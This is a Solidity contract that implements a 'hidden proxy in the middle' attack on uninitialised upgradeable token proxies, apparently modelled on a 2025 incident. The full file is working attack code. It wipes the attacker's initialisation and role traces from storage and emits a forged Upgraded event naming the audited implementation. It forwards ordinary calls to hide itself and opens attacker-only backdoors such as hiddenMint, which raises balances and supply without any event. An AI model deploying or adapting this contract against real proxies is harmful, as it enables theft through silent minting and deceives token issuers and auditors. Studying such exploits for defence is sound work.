// SPDX-License-Identifier: MIT
pragma solidity 0.8.37;

import {AccessControlUpgradeable} from "@openzeppelin/contracts-upgradeable/access/AccessControlUpgradeable.sol";
// solhint-disable-next-line max-line-length
import {AccessControlDefaultAdminRulesUpgradeable as AdminRules} from "@openzeppelin/contracts-upgradeable/access/extensions/AccessControlDefaultAdminRulesUpgradeable.sol";
import {ERC20Upgradeable} from "@openzeppelin/contracts-upgradeable/token/ERC20/ERC20Upgradeable.sol";
import {IERC1967} from "@openzeppelin/contracts/interfaces/IERC1967.sol";
import {ERC1967Utils} from "@openzeppelin/contracts/proxy/ERC1967/ERC1967Utils.sol";
import {Proxy} from "@openzeppelin/contracts/proxy/Proxy.sol";
import {Initializable} from "@openzeppelin/contracts/proxy/utils/Initializable.sol";
import {StorageSlot} from "@openzeppelin/contracts/utils/StorageSlot.sol";

/// @title The hidden proxy in the middle (USPD, 2025)
/// @notice The attacker initialises a proxy that was left uninitialised and upgrades it to this contract, which takes
/// the traces out of storage, so that the issuer can initialise too, and forges an Upgraded event that names the audited
/// implementation. From then on it forwards every call to the audited code, except those of the attacker to its backdoor.
/// @dev What gives it away is the ERC-1967 slot, which holds its address, until the issuer upgrades next.
contract ShadowImplementation is Proxy, IERC1967 {
    address private immutable AUDITED;
    address private immutable ATTACKER;
    address private immutable SELF = address(this);

    /// @dev For everybody but the attacker a backdoor is a call that the audited code doesn't know.
    modifier onlyAttacker() {
        if (msg.sender != ATTACKER) _fallback();
        _;
    }

    /// @param audited The implementation that the issuer believes in
    /// @param attacker The account for which the backdoors open
    constructor(address audited, address attacker) {
        AUDITED = audited;
        ATTACKER = attacker;
    }

    /// @notice Forwards plain ether as any other call
    receive() external payable {
        _fallback();
    }

    /// @notice Hides the attacker's initialisation, called through upgradeToAndCall
    function takeOver() external onlyAttacker {
        _initializable()._initialized = 0;
        _adminRules()._currentDefaultAdmin = address(0);
        _revokeInSilence(bytes32(0));
        _revokeInSilence(keccak256("MINTER_ADMIN_ROLE"));
        _revokeInSilence(keccak256("CANCELLER_ROLE"));
        _revokeInSilence(keccak256("PAUSER_ROLE"));
        _revokeInSilence(keccak256("UNPAUSER_ROLE"));
        _revokeInSilence(keccak256("FREEZER_ROLE"));
        _revokeInSilence(keccak256("UNFREEZER_ROLE"));
        _revokeInSilence(keccak256("SEIZER_ROLE"));
        _revokeInSilence(keccak256("RESCUER_ROLE"));
        _revokeInSilence(keccak256("UPGRADER_ROLE"));
        _revokeInSilence(keccak256("RESERVE_ADMIN_ROLE"));
        emit Upgraded(AUDITED);
    }

    /// @notice Raises a balance and the total supply, without any event
    /// @param to The account that gets the tokens
    /// @param amount How much, in base units
    function hiddenMint(address to, uint256 amount) external onlyAttacker {
        ERC20Upgradeable.ERC20Storage storage $ = _erc20();
        $._totalSupply += amount;
        $._balances[to] += amount;
    }

    /// @notice Upgrades as the audited code does, which insists on being the implementation of the proxy
    function upgradeToAndCall(address, bytes calldata) external payable {
        StorageSlot.getAddressSlot(ERC1967Utils.IMPLEMENTATION_SLOT).value = AUDITED;
        _fallback();
    }

    /// @notice Says that this is an implementation to upgrade to
    /// @dev Answers for itself when asked directly, as a proxy does before it upgrades; the audited code refuses to be
    /// asked through a proxy, and that refusal is forwarded.
    /// @return The ERC-1967 slot
    function proxiableUUID() external returns (bytes32) {
        if (address(this) != SELF) _fallback();
        return ERC1967Utils.IMPLEMENTATION_SLOT;
    }

    function _implementation() internal view override returns (address) {
        return AUDITED;
    }

    function _revokeInSilence(bytes32 role) private {
        _accessControl()._roles[role].hasRole[ATTACKER] = false;
    }

    function _initializable() private pure returns (Initializable.InitializableStorage storage $) {
        uint256 slot = erc7201("openzeppelin.storage.Initializable");
        assembly ("memory-safe") {
            $.slot := slot
        }
    }

    function _accessControl() private pure returns (AccessControlUpgradeable.AccessControlStorage storage $) {
        uint256 slot = erc7201("openzeppelin.storage.AccessControl");
        assembly ("memory-safe") {
            $.slot := slot
        }
    }

    function _adminRules() private pure returns (AdminRules.AccessControlDefaultAdminRulesStorage storage $) {
        uint256 slot = erc7201("openzeppelin.storage.AccessControlDefaultAdminRules");
        assembly ("memory-safe") {
            $.slot := slot
        }
    }

    function _erc20() private pure returns (ERC20Upgradeable.ERC20Storage storage $) {
        uint256 slot = erc7201("openzeppelin.storage.ERC20");
        assembly ("memory-safe") {
            $.slot := slot
        }
    }
}
